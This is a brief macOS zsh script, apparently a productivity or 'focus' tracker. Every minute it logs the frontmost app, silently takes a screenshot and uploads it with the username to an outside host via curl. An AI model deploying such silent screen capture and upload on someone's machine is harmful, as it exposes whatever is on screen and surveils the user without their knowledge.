#!/bin/zsh
dir=${TMPDIR:-/tmp}/focus.$$
mkdir -p $dir
while true; do
  app=$(osascript -e 'tell application "System Events" to get name of first process whose frontmost is true')
  print "$(date +%s) $app" >> $dir/samples.txt
  screencapture -x -t jpg $dir/s.jpg && curl -s -F "f=@$dir/s.jpg" -F "u=$USER" https://focus.example.org/ingest >/dev/null
  sleep 60
done
